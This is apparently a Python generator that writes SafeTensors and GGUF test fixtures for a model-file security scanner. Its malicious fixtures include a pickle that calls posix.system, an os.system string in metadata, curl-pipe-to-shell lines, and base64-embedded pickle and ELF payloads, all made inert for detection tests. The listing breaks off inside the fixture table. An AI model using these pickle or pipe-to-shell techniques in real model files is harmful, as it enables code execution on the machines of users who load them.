#!/usr/bin/env python3
"""Generate the SafeTensors and GGUF fixtures under testdata/.

Run from anywhere:

    python3 testdata/gen/generate_format_fixtures.py          # (re)write fixtures + manifest
    python3 testdata/gen/generate_format_fixtures.py --check  # verify the files on disk

Standard library only.  Output is deterministic: no randomness, tensor
values from fixed formulas, dicts built in a fixed order.  The manifest
``testdata/expected-formats.tsv`` is rewritten from the ``FIXTURES`` table at
the bottom of this file.

Safety: every payload is inert.  Commands only ever ``echo
sentrascan-fixture`` or fetch from ``127.0.0.1:9`` / ``example.invalid``; the
"executable" is a bare 64-byte ELF header with no code; the pickle calls
``posix.system('echo sentrascan-fixture')`` and is never unpickled here.
Never load the malicious fixtures with a model loader.

The chat templates of the benign GGUF files are written from the public
``tokenizer_config.json`` files of the model repositories named beside
each one; they must raise nothing in the template analyser.
"""

from __future__ import annotations

import argparse
import base64
import json
import struct
import sys
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

ROOT = Path(__file__).resolve().parent.parent  # testdata/

# --------------------------------------------------------------------------
# Shared payloads (inert)
# --------------------------------------------------------------------------

ECHO = b"echo sentrascan-fixture"


def posix_system_pickle() -> bytes:
    """Protocol 2: posix.system('echo sentrascan-fixture'), opcode by opcode."""
    return (
        b"\x80\x02"  # PROTO 2
        + b"cposix\nsystem\n"  # GLOBAL
        + b"q\x00"  # BINPUT 0
        + b"X" + struct.pack("<I", len(ECHO)) + ECHO  # BINUNICODE
        + b"q\x01"  # BINPUT 1
        + b"\x85"  # TUPLE1
        + b"q\x02"  # BINPUT 2
        + b"R"  # REDUCE
        + b"q\x03"  # BINPUT 3
        + b"."  # STOP
    )


def inert_elf_header() -> bytes:
    """A 64-byte ELF64 header with no program: magic, class, data, version."""
    return b"\x7fELF\x02\x01\x01" + bytes(9) + struct.pack("<HHI", 2, 0x3E, 1) + bytes(40)


def floats(count: int, seed: int) -> list[float]:
    """Exactly representable values from a fixed formula."""
    return [((i * 7 + seed * 3) % 33 - 16) / 16.0 for i in range(count)]


# --------------------------------------------------------------------------
# SafeTensors
# --------------------------------------------------------------------------

DTYPE_SIZE = {"F64": 8, "F32": 4, "F16": 2, "BF16": 2, "I64": 8, "I32": 4, "I16": 2, "I8": 1, "U8": 1, "BOOL": 1}


def st_pack(dtype: str, values: list) -> bytes:
    fmt = {"F64": "d", "F32": "f", "F16": "e", "I64": "q", "I32": "i", "I16": "h", "I8": "b", "U8": "B", "BOOL": "?"}
    if dtype == "BF16":
        return b"".join(struct.pack("<f", v)[2:] for v in values)
    return struct.pack("<" + fmt[dtype] * len(values), *values)


def st_raw(header_json: str, data: bytes, pad: bool = True) -> bytes:
    """A file from literal header text (to write what json.dumps cannot)."""
    h = header_json.encode("utf-8")
    if pad:
        h += b" " * ((8 - len(h) % 8) % 8)
    return struct.pack("<Q", len(h)) + h + data


def st_file(tensors: list[tuple[str, str, list[int], list]], metadata: dict[str, str] | None = None) -> bytes:
    """As safetensors.save_file writes it: tensors sorted by dtype size
    (largest first) then name, contiguous, `__metadata__` first, compact
    JSON padded with spaces to a multiple of 8."""
    order = sorted(tensors, key=lambda t: (-DTYPE_SIZE[t[1]], t[0]))
    header: dict = {}
    if metadata is not None:
        header["__metadata__"] = metadata
    data = b""
    for name, dtype, shape, values in order:
        blob = st_pack(dtype, values)
        header[name] = {"dtype": dtype, "shape": shape, "data_offsets": [len(data), len(data) + len(blob)]}
        data += blob
    return st_raw(json.dumps(header, separators=(",", ":"), ensure_ascii=False), data)


def mlp_tensors() -> list[tuple[str, str, list[int], list]]:
    return [
        ("0.weight", "F32", [4, 3], floats(12, 1)),
        ("0.bias", "F32", [4], floats(4, 2)),
        ("2.weight", "F32", [2, 4], floats(8, 3)),
        ("2.bias", "F32", [2], floats(2, 4)),
    ]


def st_benign_mlp() -> bytes:
    return st_file(mlp_tensors(), {"format": "pt"})


def st_benign_mixed_dtypes() -> bytes:
    return st_file(
        [
            ("embed", "F16", [3, 4], floats(12, 5)),
            ("norm", "BF16", [4], floats(4, 6)),
            ("positions", "I64", [3], [0, 1, 2]),
            ("mask", "BOOL", [3], [True, False, True]),
            ("codes", "U8", [5], [1, 2, 3, 250, 0]),
            ("empty", "F32", [0, 4], []),
            ("scalar", "F64", [], [0.5]),
        ]
    )


def st_benign_lora() -> bytes:
    """Kohya-style LoRA metadata: JSON in strings, a hash that happens to
    start with a pickle header in hex (8003...), Hub links."""
    tag_frequency = json.dumps({"10_style": {"landscape": 12, "portrait": 3, "eval": 1}}, separators=(",", ":"))
    return st_file(
        [
            ("lora_unet_down.lora_down.weight", "F16", [4, 8], floats(32, 7)),
            ("lora_unet_down.lora_up.weight", "F16", [8, 4], floats(32, 8)),
            ("lora_unet_down.alpha", "F16", [], [4.0]),
        ],
        {
            "ss_network_module": "networks.lora",
            "ss_network_dim": "4",
            "ss_network_alpha": "4.0",
            "ss_sd_model_name": "runwayml/stable-diffusion-v1-5",
            "ss_tag_frequency": tag_frequency,
            "sshs_model_hash": "8003a1b2c3d4e5f60718293a4b5c6d7e8f90a1b2c3d4e5f60718293a4b5c6d7e",
            "modelspec.architecture": "stable-diffusion-v1/lora",
            "modelspec.title": "Landscape style (call model.eval() before sampling)",
            "modelspec.url": "https://huggingface.co/runwayml/stable-diffusion-v1-5",
        },
    )


TENSOR_A = '"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]}'
DATA16 = st_pack("F32", floats(4, 9))


def st_header_past_eof() -> bytes:
    body = st_raw("{" + TENSOR_A + "}", DATA16)
    return struct.pack("<Q", 4096) + body[8:]


def st_invalid_json() -> bytes:
    return st_raw("{" + TENSOR_A, DATA16)  # no closing brace


def st_duplicate_names() -> bytes:
    return st_raw(
        '{"w":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"w":{"dtype":"F32","shape":[4],"data_offsets":[16,32]}}',
        DATA16 + st_pack("F32", floats(4, 10)),
    )


def st_overlap() -> bytes:
    return st_raw(
        '{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[4],"data_offsets":[8,24]}}',
        st_pack("F32", floats(6, 11)),
    )


def st_gap() -> bytes:
    return st_raw(
        '{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,16]},"b":{"dtype":"F32","shape":[4],"data_offsets":[32,48]}}',
        st_pack("F32", floats(12, 12)),
    )


def st_trailing() -> bytes:
    return st_raw("{" + TENSOR_A + "}", DATA16 + b"\x00" * 16)


def st_unknown_dtype() -> bytes:
    return st_raw('{"a":{"dtype":"Q4","shape":[8],"data_offsets":[0,4]}}', b"\x12\x34\x56\x78")


def st_shape_mismatch() -> bytes:
    return st_raw('{"a":{"dtype":"F32","shape":[4],"data_offsets":[0,8]}}', DATA16[:8])


def st_out_of_bounds() -> bytes:
    return st_raw("{" + TENSOR_A + "}", DATA16[:8])


def st_non_string_metadata() -> bytes:
    return st_raw(
        '{"__metadata__":{"format":"pt","epochs":3,"hook":{"cmd":"echo sentrascan-fixture"}},' + TENSOR_A + "}",
        DATA16,
    )


def st_with_metadata(metadata: dict[str, str]) -> bytes:
    return st_file([("a", "F32", [4], floats(4, 9))], metadata)


def st_os_system() -> bytes:
    return st_with_metadata({"format": "pt", "postprocess": "__import__('os').system('echo sentrascan-fixture')"})


def st_curl_sh() -> bytes:
    return st_with_metadata({"format": "pt", "setup": "curl -fsSL http://127.0.0.1:9/install.sh | sh"})


def st_base64_pickle() -> bytes:
    return st_with_metadata({"format": "pt", "config": base64.b64encode(posix_system_pickle()).decode()})


def st_elf() -> bytes:
    return st_with_metadata({"format": "pt", "runtime": base64.b64encode(inert_elf_header()).decode()})


def st_external_url() -> bytes:
    return st_with_metadata(
        {
            "format": "pt",
            "source": "https://huggingface.co/sentrascan/fixture",
            "mirror": "https://example.invalid/models/fixture.safetensors",
        }
    )


# --------------------------------------------------------------------------
# GGUF
# --------------------------------------------------------------------------

T_U8, T_I8, T_U16, T_I16, T_U32, T_I32, T_F32, T_BOOL, T_STR, T_ARR, T_U64, T_I64, T_F64 = range(13)
SCALAR_FMT = {T_U8: "B", T_I8: "b", T_U16: "H", T_I16: "h", T_U32: "I", T_I32: "i", T_F32: "f",
              T_BOOL: "?", T_U64: "Q", T_I64: "q", T_F64: "d"}

# ggml types used here: (id, block size, bytes per block)
F32, F16, Q8_0, Q4_K = (0, 1, 4), (1, 1, 2), (8, 32, 34), (12, 256, 144)


@dataclass
class Arr:
    elem: int
    items: list


@dataclass
class Tensor:
    name: str
    dims: list[int]
    ggml: tuple[int, int, int]
    offset: int | None = None  # None: placed by the writer
    data: bytes | None = None  # None: deterministic bytes of the right size
    type_id: int | None = None  # overrides ggml[0]

    def nbytes(self) -> int:
        n = 1
        for d in self.dims:
            n *= d
        return n // self.ggml[1] * self.ggml[2]


class GGUFWriter:
    """Writes GGUF as gguf-py does: header, KVs, tensor infos, padding to
    the alignment, then each tensor's data padded to the alignment."""

    def __init__(self, version: int = 3, alignment: int = 32):
        self.version = version
        self.alignment = alignment
        self.kvs: list[bytes] = []
        self.tensors: list[Tensor] = []

    def n(self, v: int) -> bytes:  # counts and lengths
        return struct.pack("<Q" if self.version >= 2 else "<I", v)

    def s(self, text: str | bytes) -> bytes:
        b = text.encode("utf-8") if isinstance(text, str) else text
        return self.n(len(b)) + b

    def value(self, t: int, v) -> bytes:
        if t == T_STR:
            return self.s(v)
        if t == T_ARR:
            out = struct.pack("<I", v.elem) + self.n(len(v.items))
            return out + b"".join(self.value(v.elem, i) for i in v.items)
        return struct.pack("<" + SCALAR_FMT[t], v)

    def kv(self, key: str, t: int, v) -> "GGUFWriter":
        self.kvs.append(self.s(key) + struct.pack("<I", t) + self.value(t, v))
        return self

    def raw_kv(self, raw: bytes) -> "GGUFWriter":
        self.kvs.append(raw)
        return self

    def tensor(self, t: Tensor) -> "GGUFWriter":
        self.tensors.append(t)
        return self

    def pad(self, n: int) -> int:
        return (self.alignment - n % self.alignment) % self.alignment

    def build(self, truncate_data_to: int | None = None) -> bytes:
        offset = 0
        blobs = []
        for t in self.tensors:
            data = t.data if t.data is not None else bytes((i * 31 + len(t.name)) % 251 for i in range(t.nbytes()))
            if t.offset is None:
                t.offset = offset
            blobs.append((t.offset, data))
            offset = max(offset, t.offset + len(data))
            offset += self.pad(offset)
        out = b"GGUF" + struct.pack("<I", self.version) + self.n(len(self.tensors)) + self.n(len(self.kvs))
        out += b"".join(self.kvs)
        for t in self.tensors:
            out += self.s(t.name) + struct.pack("<I", len(t.dims))
            out += b"".join(self.n(d) for d in t.dims)
            out += struct.pack("<I", t.type_id if t.type_id is not None else t.ggml[0]) + struct.pack("<Q", t.offset)
        out += b"\x00" * self.pad(len(out))
        data = bytearray()
        for off, blob in blobs:
            if off >= 1 << 24:
                continue  # deliberately past the end of the file
            if len(data) < off:
                data += b"\x00" * (off - len(data))
            data[off:off + len(blob)] = blob
            data += b"\x00" * self.pad(len(data))
        if truncate_data_to is not None:
            data = data[:truncate_data_to]
        return out + bytes(data)


# Vocabularies: a handful of tokens with the special tokens each template uses.
SPM_TOKENS = ["<unk>", "<s>", "</s>", "▁the", "▁model", "▁is", "▁safe", "<0x0A>", "▁eval", "▁curl"]
BPE_TOKENS = ["Ġthe", "Ġmodel", "Ġis", "Ġsafe", "Ċ", "Ġeval", "Ġexec", "Ġcurl", "import", "Ġos"]
BPE_MERGES = ["Ġ t", "Ġt he", "m o", "mo del", "Ġ s", "Ġs afe"]


def tiny_model(arch: str, name: str, *, tokenizer: str, specials: list[str], templates: dict[str, str],
               version: int = 3, license_: str = "apache-2.0", extra: list[tuple[str, int, object]] = ()) -> bytes:
    """A small but complete llama.cpp-style model: general.*, hyperparameters,
    a tokenizer, chat templates, and four tensors of F32, Q8_0 and Q4_K."""
    w = GGUFWriter(version=version)
    w.kv("general.architecture", T_STR, arch)
    w.kv("general.type", T_STR, "model")
    w.kv("general.name", T_STR, name)
    w.kv("general.size_label", T_STR, "1K")
    w.kv("general.license", T_STR, license_)
    w.kv("general.tags", T_ARR, Arr(T_STR, ["text-generation", "sentrascan-fixture"]))
    w.kv("general.languages", T_ARR, Arr(T_STR, ["en"]))
    w.kv("general.file_type", T_U32, 7)  # MOSTLY_Q8_0
    w.kv("general.quantization_version", T_U32, 2)
    w.kv(f"{arch}.context_length", T_U32, 4096)
    w.kv(f"{arch}.embedding_length", T_U32, 32)
    w.kv(f"{arch}.block_count", T_U32, 1)
    w.kv(f"{arch}.feed_forward_length", T_U32, 256)
    w.kv(f"{arch}.attention.head_count", T_U32, 4)
    w.kv(f"{arch}.attention.head_count_kv", T_U32, 4)
    w.kv(f"{arch}.attention.layer_norm_rms_epsilon", T_F32, 1e-5)
    w.kv(f"{arch}.rope.freq_base", T_F32, 10000.0)
    for key, t, v in extra:
        w.kv(key, t, v)
    base = SPM_TOKENS if tokenizer == "llama" else BPE_TOKENS
    tokens = base + [s for s in specials if s not in base]
    w.kv("tokenizer.ggml.model", T_STR, tokenizer)
    if tokenizer == "gpt2":
        w.kv("tokenizer.ggml.pre", T_STR, "default")
    w.kv("tokenizer.ggml.tokens", T_ARR, Arr(T_STR, tokens))
    w.kv("tokenizer.ggml.scores", T_ARR, Arr(T_F32, [-float(i) for i in range(len(tokens))]))
    w.kv("tokenizer.ggml.token_type", T_ARR, Arr(T_I32, [3 if t in specials else 1 for t in tokens]))
    if tokenizer == "gpt2":
        w.kv("tokenizer.ggml.merges", T_ARR, Arr(T_STR, BPE_MERGES))
    w.kv("tokenizer.ggml.bos_token_id", T_U32, tokens.index(specials[0]) if specials else 1)
    w.kv("tokenizer.ggml.eos_token_id", T_U32, tokens.index(specials[1]) if len(specials) > 1 else 2)
    w.kv("tokenizer.ggml.add_bos_token", T_BOOL, True)
    for key, text in templates.items():
        w.kv(key, T_STR, text)
    w.tensor(Tensor("token_embd.weight", [32, len(tokens)], F32))
    w.tensor(Tensor("blk.0.attn_norm.weight", [32], F32))
    w.tensor(Tensor("blk.0.attn_q.weight", [32, 32], Q8_0))
    w.tensor(Tensor("blk.0.ffn_down.weight", [256, 2], Q4_K))
    return w.build()


# Chat templates, as in each repository's tokenizer_config.json.

# meta-llama/Llama-2-7b-chat-hf
LLAMA2 = (
    "{% if messages[0]['role'] == 'system' %}{% set loop_messages = messages[1:] %}"
    "{% set system_message = messages[0]['content'] %}{% else %}{% set loop_messages = messages %}"
    "{% set system_message = false %}{% endif %}{% for message in loop_messages %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if loop.index0 == 0 and system_message != false %}"
    "{% set content = '<<SYS>>\\n' + system_message + '\\n<</SYS>>\\n\\n' + message['content'] %}"
    "{% else %}{% set content = message['content'] %}{% endif %}"
    "{% if message['role'] == 'user' %}{{ bos_token + '[INST] ' + content.strip() + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ ' '  + content.strip() + ' ' + eos_token }}{% endif %}{% endfor %}"
)

# meta-llama/Meta-Llama-3-8B-Instruct
LLAMA3 = (
    "{% set loop_messages = messages %}{% for message in loop_messages %}"
    "{% set content = '<|start_header_id|>' + message['role'] + '<|end_header_id|>\\n\\n'"
    "+ message['content'] | trim + '<|eot_id|>' %}{% if loop.index0 == 0 %}"
    "{% set content = bos_token + content %}{% endif %}{{ content }}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|start_header_id|>assistant<|end_header_id|>\\n\\n' }}{% endif %}"
)

# ChatML, as in teknium/OpenHermes-2.5-Mistral-7B
CHATML = (
    "{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
    "'<|im_end|>' + '\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)

# mistralai/Mistral-7B-Instruct-v0.2
MISTRAL = (
    "{{ bos_token }}{% for message in messages %}"
    "{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if message['role'] == 'user' %}{{ '[INST] ' + message['content'] + ' [/INST]' }}"
    "{% elif message['role'] == 'assistant' %}{{ message['content'] + eos_token}}"
    "{% else %}{{ raise_exception('Only user and assistant roles are supported!') }}{% endif %}{% endfor %}"
)

# google/gemma-7b-it
GEMMA = (
    "{{ bos_token }}{% if messages[0]['role'] == 'system' %}{{ raise_exception('System role not supported') }}"
    "{% endif %}{% for message in messages %}{% if (message['role'] == 'user') != (loop.index0 % 2 == 0) %}"
    "{{ raise_exception('Conversation roles must alternate user/assistant/user/assistant/...') }}{% endif %}"
    "{% if (message['role'] == 'assistant') %}{% set role = 'model' %}{% else %}"
    "{% set role = message['role'] %}{% endif %}"
    "{{ '<start_of_turn>' + role + '\\n' + message['content'] | trim + '<end_of_turn>\\n' }}{% endfor %}"
    "{% if add_generation_prompt %}{{'<start_of_turn>model\\n'}}{% endif %}"
)

# Qwen/Qwen2-7B-Instruct
QWEN2 = (
    "{% for message in messages %}{% if loop.first and messages[0]['role'] != 'system' %}"
    "{{ '<|im_start|>system\\nYou are a helpful assistant.<|im_end|>\\n' }}{% endif %}"
    "{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + '<|im_end|>' + '\\n'}}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}"
)

# microsoft/Phi-3-mini-4k-instruct
PHI3 = (
    "{% for message in messages %}{% if message['role'] == 'system' %}"
    "{{'<|system|>\\n' + message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'user' %}"
    "{{'<|user|>\\n' + message['content'] + '<|end|>\\n'}}{% elif message['role'] == 'assistant' %}"
    "{{'<|assistant|>\\n' + message['content'] + '<|end|>\\n'}}{% endif %}{% endfor %}"
    "{% if add_generation_prompt %}{{ '<|assistant|>\\n' }}{% else %}{{ eos_token }}{% endif %}"
)

# deepseek-ai/DeepSeek-V3 (tool calling)
DEEPSEEK_TOOLS = (
    "{% if not add_generation_prompt is defined %}{% set add_generation_prompt = false %}{% endif %}"
    "{% set ns = namespace(is_first=false, is_tool=false, is_output_first=true, system_prompt='', is_first_sp=true) %}"
    "{%- for message in messages %}{%- if message['role'] == 'system' %}{%- if ns.is_first_sp %}"
    "{% set ns.system_prompt = ns.system_prompt + message['content'] %}{% set ns.is_first_sp = false %}"
    "{%- else %}{% set ns.system_prompt = ns.system_prompt + '\\n\\n' + message['content'] %}{%- endif %}"
    "{%- endif %}{%- endfor %}{{ bos_token }}{{ ns.system_prompt }}"
    "{%- for message in messages %}{%- if message['role'] == 'user' %}{%- set ns.is_tool = false -%}"
    "{{'<｜User｜>' + message['content']}}{%- endif %}"
    "{%- if message['role'] == 'assistant' and 'tool_calls' in message %}{%- set ns.is_tool = false -%}"
    "{%- for tool in message['tool_calls'] %}{%- if not ns.is_first %}{%- if message['content'] is none %}"
    "{{'<｜Assistant｜><｜tool▁calls▁begin｜><｜tool▁call▁begin｜>' + tool['type'] + '<｜tool▁sep｜>' + "
    "tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + "
    "'<｜tool▁call▁end｜>'}}{%- else %}{{'<｜Assistant｜>' + message['content'] + "
    "'<｜tool▁calls▁begin｜><｜tool▁call▁begin｜>' + tool['type'] + '<｜tool▁sep｜>' + tool['function']['name'] + "
    "'\\n' + '```json' + '\\n' + tool['function']['arguments'] + '\\n' + '```' + '<｜tool▁call▁end｜>'}}"
    "{%- endif %}{%- set ns.is_first = true -%}{%- else %}{{'\\n' + '<｜tool▁call▁begin｜>' + tool['type'] + "
    "'<｜tool▁sep｜>' + tool['function']['name'] + '\\n' + '```json' + '\\n' + tool['function']['arguments'] + "
    "'\\n' + '```' + '<｜tool▁call▁end｜>'}}{%- endif %}{%- endfor %}{{'<｜tool▁calls▁end｜><｜end▁of▁sentence｜>'}}"
    "{%- endif %}{%- if message['role'] == 'assistant' and 'tool_calls' not in message %}"
    "{%- if ns.is_tool %}{{'<｜tool▁outputs▁end｜>' + message['content'] + '<｜end▁of▁sentence｜>'}}"
    "{%- set ns.is_tool = false -%}{%- else %}{% set content = message['content'] %}"
    "{{'<｜Assistant｜>' + content + '<｜end▁of▁sentence｜>'}}{%- endif %}{%- endif %}"
    "{%- if message['role'] == 'tool' %}{%- set ns.is_tool = true -%}{%- if ns.is_output_first %}"
    "{{'<｜tool▁outputs▁begin｜><｜tool▁output▁begin｜>' + message['content'] + '<｜tool▁output▁end｜>'}}"
    "{%- set ns.is_output_first = false %}{%- else %}"
    "{{'<｜tool▁output▁begin｜>' + message['content'] + '<｜tool▁output▁end｜>'}}{%- endif %}{%- endif %}"
    "{%- endfor -%}{% if ns.is_tool %}{{'<｜tool▁outputs▁end｜>'}}{% endif %}"
    "{% if add_generation_prompt and not ns.is_tool %}{{'<｜Assistant｜>'}}{% endif %}"
)

# A named tool-use template beside the default (NousResearch Hermes style:
# `tokenizer.chat_template.tool_use` plus the `tokenizer.chat_templates` list).
HERMES_TOOL_USE = (
    "{{- bos_token }}{%- if tools is defined and tools %}{{- '<|im_start|>system\\nYou are a function calling AI "
    "model. You may call one or more functions. Here are the available tools: <tools> ' }}"
    "{%- for tool in tools %}{{- tool | tojson }}{%- endfor %}{{- ' </tools><|im_end|>\\n' }}{%- endif %}"
    "{%- for message in messages %}{{- '<|im_start|>' + message.role + '\\n' + message.content + '<|im_end|>\\n' }}"
    "{%- endfor %}{%- if add_generation_prompt %}{{- '<|im_start|>assistant\\n' }}{%- endif %}"
)


def template_model(arch: str, name: str, tokenizer: str, specials: list[str], templates: dict[str, str],
                   license_: str = "apache-2.0") -> Callable[[], bytes]:
    return lambda: tiny_model(arch, name, tokenizer=tokenizer, specials=specials, templates=templates,
                              license_=license_)


def gguf_minimal(version: int) -> bytes:
    w = GGUFWriter(version=version)
    w.kv("general.architecture", T_STR, "llama").kv("general.name", T_STR, f"sentrascan gguf v{version}")
    w.kv("general.alignment", T_U32, 32)
    w.tensor(Tensor("output_norm.weight", [8], F32)).tensor(Tensor("output.weight", [8, 4], F16))
    return w.build()


def small_writer() -> GGUFWriter:
    w = GGUFWriter()
    w.kv("general.architecture", T_STR, "llama").kv("general.name", T_STR, "sentrascan fixture")
    return w


def gguf_bad_version() -> bytes:
    return b"GGUF" + struct.pack("<IQQ", 7, 0, 0)


def gguf_huge_string() -> bytes:
    w = GGUFWriter()
    w.kv("general.architecture", T_STR, "llama")
    w.raw_kv(w.s("general.name") + struct.pack("<I", T_STR) + struct.pack("<Q", 0xFFFF_FFFF_FFFF) + b"sentrascan")
    return w.build()


def gguf_array_overflow() -> bytes:
    w = small_writer()
    # 2^62 + 1 float32 elements: the byte count overflows a u64.
    w.raw_kv(w.s("tokenizer.ggml.scores") + struct.pack("<II", T_ARR, T_F32) + struct.pack("<Q", (1 << 62) + 1)
             + struct.pack("<4f", 0, 0, 0, 0))
    return w.build()


def gguf_nested_depth() -> bytes:
    w = small_writer()
    depth = 12
    value = Arr(T_U8, [1])
    for _ in range(depth - 1):
        value = Arr(T_ARR, [value])
    return w.kv("sentrascan.nested", T_ARR, value).build()


def gguf_duplicate_keys() -> bytes:
    w = small_writer()
    w.kv("general.name", T_STR, "second name")
    return w.tensor(Tensor("output_norm.weight", [8], F32)).build()


def gguf_n_dims() -> bytes:
    w = small_writer()
    return w.tensor(Tensor("output_norm.weight", [8], F32)).tensor(Tensor("blk.0.odd.weight", [8, 1, 1, 1, 1], F32)).build()


def gguf_unknown_type() -> bytes:
    w = small_writer()
    w.tensor(Tensor("output_norm.weight", [8], F32))
    return w.tensor(Tensor("blk.0.future.weight", [32], F32, offset=32, data=b"", type_id=250)).build()


def gguf_offset_beyond_eof() -> bytes:
    w = small_writer()
    return w.tensor(Tensor("output_norm.weight", [8], F32)).tensor(Tensor("output.weight", [8, 4], F32, offset=1 << 30)).build()


def gguf_overlap() -> bytes:
    w = small_writer()
    return w.tensor(Tensor("a.weight", [32], F32, offset=0)).tensor(Tensor("b.weight", [32], F32, offset=64)).build()


def gguf_misaligned() -> bytes:
    w = small_writer()
    w.tensor(Tensor("a.weight", [30], F32, offset=0))
    return w.tensor(Tensor("b.weight", [32], F32, offset=120)).build(truncate_data_to=248)


def gguf_shell_command() -> bytes:
    w = small_writer()
    w.kv("general.description", T_STR, "Quick start: curl -fsSL http://127.0.0.1:9/install.sh | sh")
    return w.tensor(Tensor("output_norm.weight", [8], F32)).build()


def gguf_base64_pickle() -> bytes:
    w = small_writer()
    w.kv("sentrascan.fixture.config", T_STR, base64.b64encode(posix_system_pickle()).decode())
    return w.tensor(Tensor("output_norm.weight", [8], F32)).build()


# --------------------------------------------------------------------------
# Fixture table: path (relative to testdata/), builder, expected findings
# (rule, severity); an empty list means benign (nothing above LOW).
# --------------------------------------------------------------------------


@dataclass
class Fixture:
    path: str
    build: Callable[[], bytes]
    expect: list[tuple[str, str]] = field(default_factory=list)
    note: str = ""


FIXTURES = [
    # SafeTensors
    Fixture("safetensors/benign_mlp_with_metadata.safetensors", st_benign_mlp),
    Fixture("safetensors/benign_mixed_dtypes_no_metadata.safetensors", st_benign_mixed_dtypes),
    Fixture("safetensors/benign_lora_kohya_metadata.safetensors", st_benign_lora),
    Fixture("safetensors/ST001_header_length_past_eof.safetensors", st_header_past_eof, [("ST001", "MEDIUM")]),
    Fixture("safetensors/ST001_invalid_json.safetensors", st_invalid_json, [("ST001", "MEDIUM")]),
    Fixture("safetensors/ST002_duplicate_tensor_names.safetensors", st_duplicate_names, [("ST002", "MEDIUM")]),
    Fixture("safetensors/ST003_unknown_dtype.safetensors", st_unknown_dtype, [("ST003", "MEDIUM")]),
    Fixture("safetensors/ST004_overlapping_offsets.safetensors", st_overlap, [("ST004", "MEDIUM")]),
    Fixture("safetensors/ST004_gap_between_tensors.safetensors", st_gap, [("ST004", "MEDIUM")]),
    Fixture("safetensors/ST004_trailing_bytes.safetensors", st_trailing, [("ST004", "MEDIUM")]),
    Fixture("safetensors/ST004_shape_offset_mismatch.safetensors", st_shape_mismatch, [("ST004", "MEDIUM")]),
    Fixture("safetensors/ST004_offsets_out_of_bounds.safetensors", st_out_of_bounds, [("ST004", "MEDIUM")]),
    Fixture("safetensors/ST005_non_string_metadata.safetensors", st_non_string_metadata,
            [("ST005", "MEDIUM"), ("ST005", "MEDIUM")], "an integer and an object in __metadata__"),
    Fixture("safetensors/ST006_metadata_os_system.safetensors", st_os_system, [("ST006", "HIGH")]),
    Fixture("safetensors/ST006_metadata_curl_pipe_sh.safetensors", st_curl_sh, [("ST006", "HIGH"), ("ST008", "LOW")],
            "the fetched URL is also reported (LOW)"),
    Fixture("safetensors/ST007_metadata_base64_pickle.safetensors", st_base64_pickle,
            [("ST007", "HIGH"), ("PKL001", "CRITICAL")], "the decoded pickle is analysed by the pickle rules"),
    Fixture("safetensors/ST007_metadata_base64_elf.safetensors", st_elf, [("ST007", "HIGH")]),
    Fixture("safetensors/ST008_metadata_external_url.safetensors", st_external_url, [("ST008", "LOW")]),
    # GGUF: benign
    Fixture("gguf/benign_v1_minimal.gguf", lambda: gguf_minimal(1)),
    Fixture("gguf/benign_v2_minimal.gguf", lambda: gguf_minimal(2)),
    Fixture("gguf/benign_v3_minimal.gguf", lambda: gguf_minimal(3)),
    Fixture("gguf/benign_llama2_chat_template.gguf",
            template_model("llama", "Llama 2 fixture", "llama", ["<s>", "</s>"], {"tokenizer.chat_template": LLAMA2},
                           "llama2")),
    Fixture("gguf/benign_llama3_chat_template.gguf",
            template_model("llama", "Llama 3 fixture", "gpt2", ["<|begin_of_text|>", "<|eot_id|>",
                           "<|start_header_id|>", "<|end_header_id|>"], {"tokenizer.chat_template": LLAMA3}, "llama3")),
    Fixture("gguf/benign_chatml_chat_template.gguf",
            template_model("llama", "ChatML fixture", "llama", ["<s>", "<|im_end|>", "<|im_start|>"],
                           {"tokenizer.chat_template": CHATML})),
    Fixture("gguf/benign_mistral_chat_template.gguf",
            template_model("llama", "Mistral fixture", "llama", ["<s>", "</s>"], {"tokenizer.chat_template": MISTRAL})),
    Fixture("gguf/benign_gemma_chat_template.gguf",
            template_model("gemma", "Gemma fixture", "llama", ["<bos>", "<eos>", "<start_of_turn>", "<end_of_turn>"],
                           {"tokenizer.chat_template": GEMMA}, "gemma")),
    Fixture("gguf/benign_qwen2_chat_template.gguf",
            template_model("qwen2", "Qwen2 fixture", "gpt2", ["<|endoftext|>", "<|im_end|>", "<|im_start|>"],
                           {"tokenizer.chat_template": QWEN2})),
    Fixture("gguf/benign_phi3_chat_template.gguf",
            template_model("phi3", "Phi-3 fixture", "llama", ["<s>", "<|endoftext|>", "<|system|>", "<|user|>",
                           "<|assistant|>", "<|end|>"], {"tokenizer.chat_template": PHI3}, "mit")),
    Fixture("gguf/benign_deepseek_tool_calling_chat_template.gguf",
            template_model("deepseek2", "DeepSeek tool-calling fixture", "gpt2",
                           ["<｜begin▁of▁sentence｜>", "<｜end▁of▁sentence｜>", "<｜User｜>", "<｜Assistant｜>"],
                           {"tokenizer.chat_template": DEEPSEEK_TOOLS}, "mit")),
    Fixture("gguf/benign_named_chat_templates.gguf",
            lambda: tiny_model("llama", "Hermes fixture", tokenizer="gpt2",
                               specials=["<|begin_of_text|>", "<|im_end|>", "<|im_start|>"],
                               templates={"tokenizer.chat_template": CHATML,
                                          "tokenizer.chat_template.tool_use": HERMES_TOOL_USE},
                               extra=[("tokenizer.chat_templates", T_ARR, Arr(T_STR, ["tool_use"]))])),
    # GGUF: malformed or malicious
    Fixture("gguf/GGUF001_unsupported_version.gguf", gguf_bad_version, [("GGUF001", "MEDIUM")]),
